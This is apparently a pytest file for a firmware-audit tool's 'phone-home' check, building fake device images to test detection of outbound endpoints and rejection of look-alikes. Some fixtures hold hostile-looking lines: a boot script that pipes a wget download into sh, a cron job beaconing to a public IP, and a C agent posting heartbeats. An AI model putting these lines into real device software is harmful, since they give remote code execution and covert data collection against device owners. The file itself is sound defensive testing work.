"""phone-home: endpoints that device code contacts, and the many look-alikes that are not."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from assay.checks.base import CheckContext
from assay.checks.phone_home.check import CHECK
from assay.checks.phone_home.endpoints import documentation_context, find_endpoints
from assay.index import build_index
from assay.model import Finding, Severity
from assay.unpack import index_directory

RCS = '#!/bin/sh\nfor s in /etc/init.d/S[0-9][0-9]*; do\n    "$s" start\ndone\n'
BUSYBOX = Path("/bin/true").read_bytes()

AGENT_C = """
#include <netdb.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static const char *host = "%s";
int main(void) {
    struct addrinfo *ai;
    if (getaddrinfo(host, "80", 0, &ai) != 0) return 1;
    int s = socket(ai->ai_family, SOCK_STREAM, 0);
    connect(s, ai->ai_addr, ai->ai_addrlen);
    write(s, "POST /hb HTTP/1.1\\r\\n", 19);
    return 0;
}
"""

PRINTER_C = """
#include <stdio.h>
int main(void) { puts("%s"); return 0; }
"""


def build(tmp: Path, source: str, name: str, *flags: str) -> bytes:
    cc = shutil.which("gcc")
    if cc is None:
        pytest.fail("gcc is not installed")
    src = tmp / f"{name}.c"
    src.write_text(source)
    out = tmp / name
    subprocess.run([cc, "-O1", *flags, str(src), "-o", str(out)], check=True, capture_output=True)
    return out.read_bytes()


def scan(root: Path, files: dict[str, str | bytes], links: dict[str, str] | None = None) -> list[Finding]:
    tree: dict[str, str | bytes] = {
        "/bin/busybox": BUSYBOX,
        "/etc/inittab": "::sysinit:/etc/init.d/rcS\n",
        "/etc/init.d/rcS": RCS,
        "/etc/init.d/S80cron": "#!/bin/sh\ncrond -c /etc/crontabs\n",
    }
    tree.update(files)
    for path, content in tree.items():
        host = root / path.lstrip("/")
        host.parent.mkdir(parents=True, exist_ok=True)
        host.write_bytes(content.encode() if isinstance(content, str) else content)
        host.chmod(0o755 if not path.startswith(("/www", "/etc/config")) else 0o644)
    applets = {f"/usr/bin/{a}": "/bin/busybox" for a in ("wget", "nc", "ntpd", "nslookup")}
    applets["/usr/sbin/crond"] = "/bin/busybox"
    for path, target in {**applets, **(links or {})}.items():
        host = root / path.lstrip("/")
        host.parent.mkdir(parents=True, exist_ok=True)
        host.symlink_to(target)
    return list(CHECK.run(CheckContext(index=build_index([index_directory(root, "fs0")]))))


def test_cron_script_with_public_ip_is_high_and_points_at_the_script(tmp_path: Path) -> None:
    script = (
        "#!/bin/sh\n"
        "SERVER=45.33.12.9\n"
        'URL="http://$SERVER/fw/check?model=$(cat /etc/version)"\n'
        'wget -q -O /tmp/fw.json "$URL"\n'
    )
    files = {"/usr/sbin/fwcheck.sh": script, "/etc/crontabs/root": "0 */6 * * * /usr/sbin/fwcheck.sh\n"}
    (f,) = scan(tmp_path, files)
    assert (f.category, f.path, f.severity) == ("phone-home", "/usr/sbin/fwcheck.sh", Severity.HIGH)
    data = script.encode()
    located = [e for e in f.evidence if e.excerpt == "45.33.12.9"]
    assert located and located[0].offset == data.find(b"45.33.12.9") and located[0].line == 2
    assert f.details["hosts"] == ["45.33.12.9"]


def test_boot_script_piping_download_into_shell(tmp_path: Path) -> None:
    body = "#!/bin/sh\nwget -q -O - http://update.acme-telemetry.net/boot.sh | sh &\n"
    (f,) = scan(tmp_path, {"/etc/init.d/S95update": body})
    assert f.path == "/etc/init.d/S95update" and f.severity == Severity.HIGH
    assert "downloads and runs" in f.title
    assert f.evidence[0].line == 2


def test_vendor_daemon_with_domain_and_network_apis(tmp_path: Path) -> None:
    agent = build(tmp_path, AGENT_C % "api.acme-telemetry.net", "agent")
    files = {"/usr/sbin/cloudagent": agent, "/etc/init.d/S90agent": "#!/bin/sh\n/usr/sbin/cloudagent &\n"}
    (f,) = scan(tmp_path / "root", files)
    assert (f.path, f.severity) == ("/usr/sbin/cloudagent", Severity.HIGH)
    assert {"connect", "getaddrinfo"} <= set(f.details["network_apis"])
    ev = f.evidence[0]
    assert ev.offset is not None and agent[ev.offset : ev.offset + ev.length] == b"api.acme-telemetry.net"
    # Not started at boot: still a program that contacts the host, at lower severity.
    (g,) = scan(tmp_path / "root2", {"/usr/sbin/cloudagent": agent})
    assert g.severity == Severity.MEDIUM


def test_clean_image_lookalikes_are_not_reported(tmp_path: Path) -> None:
    files = {
        "/etc/config/system": "config timeserver 'ntp'\n\tlist server '0.pool.ntp.org'\n\tlist server 'time.nist.gov'\n",
        "/etc/init.d/S49ntp": "#!/bin/sh\nntpd -p 0.pool.ntp.org -p time.nist.gov\n",
        "/etc/init.d/S50dns": "#!/bin/sh\necho nameserver 8.8.8.8 > /tmp/resolv.conf\nnslookup example.com 1.1.1.1\n",
        "/etc/crontabs/root": "*/5 * * * * wget -q http://192.168.1.10/status -O /dev/null\n",
        "/www/index.html": '<a href="https://www.acme-networks.com/support">Support</a>\n',
        # A script nothing starts (a CGI) and a library-like file with URLs.
        "/www/cgi-bin/upgrade.cgi": "#!/bin/sh\nwget http://dl.acme-networks.com/fw.bin\n",
        "/usr/lib/libcloud.so.1": build(
            tmp_path, AGENT_C % "api.acme-telemetry.net", "lib", "-shared", "-fPIC"
        ),
        # A vendor program holding a URL but no network code, and one whose only quad is a version.
        "/usr/bin/showver": build(tmp_path, PRINTER_C % "see https://www.acme-networks.com/manual", "p1"),
        "/usr/sbin/vdaemon": build(tmp_path, AGENT_C % "Linux version 2.6.36.4", "vd"),
        "/usr/sbin/lan": build(tmp_path, AGENT_C % "192.168.1.1", "lan"),
        "/etc/init.d/S60v": "#!/bin/sh\n/usr/sbin/vdaemon &\n/usr/sbin/lan &\n",
    }
    assert scan(tmp_path / "root", files) == []


def test_busybox_copy_under_another_name_is_a_known_tool(tmp_path: Path) -> None:
    fake = (
        build(tmp_path, AGENT_C % "Adapted from https://github.com/x/bc", "bb") + b"\x00BusyBox v1.35.0\x00"
    )
    fake2 = build(tmp_path, AGENT_C % "https://github.com/x/bc", "bb2") + b"\x00BusyBox v1.35.0\x00"
    assert scan(tmp_path / "root", {"/usr/lib/.x/sh": fake, "/usr/lib/.x/ash": fake2}) == []


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("http://stat.vendor-cloud.com/dev/heartbeat", ["stat.vendor-cloud.com"]),
        ("mqtts://broker.vendor-cloud.io:8883", ["broker.vendor-cloud.io"]),
        ("45.33.12.9:4444", ["45.33.12.9"]),
        ("Linux version 2.6.36.4", []),
        ("OID 1.3.6.1.4.1.2021", []),
        ("10.0.0.1 172.16.5.4 192.168.0.1 169.254.1.1 224.0.0.251 127.0.0.1", []),
        ("192.0.2.7 198.51.100.2 203.0.113.9", []),
        ("8.8.8.8", []),
        ("1.7.4.4", []),  # socat's version string, alone in the binary
        ("45.33.12.9", ["45.33.12.9"]),
        ("libc.so.6 index.html main.cc setup.sh", []),
        ("http://www.w3.org/2001/XMLSchema http://schemas.xmlsoap.org/soap/", []),
        ("upd.vendor-cloud.com", ["upd.vendor-cloud.com"]),
    ],
)
def test_endpoint_extraction(text: str, hosts: list[str]) -> None:
    assert [e.host for e in find_endpoints(text)] == hosts


@pytest.mark.parametrize(
    ("text", "documentation"),
    [
        ("wireguard-tools v%s - https://git.zx2c4.com/wireguard-tools/", True),  # a version banner
        ("Version: %s (http://www.example-vendor.com/)", True),
        ("curl -s http://upd.vendor-cloud.com/check --data version=1", False),
        ("http://stat.vendor-cloud.com/dev/heartbeat?v=%s", False),
    ],
)
def test_a_program_banner_names_its_home_page_not_an_endpoint(text: str, documentation: bool) -> None:
    (ep,) = find_endpoints(text)
    assert documentation_context(text, ep) is documentation
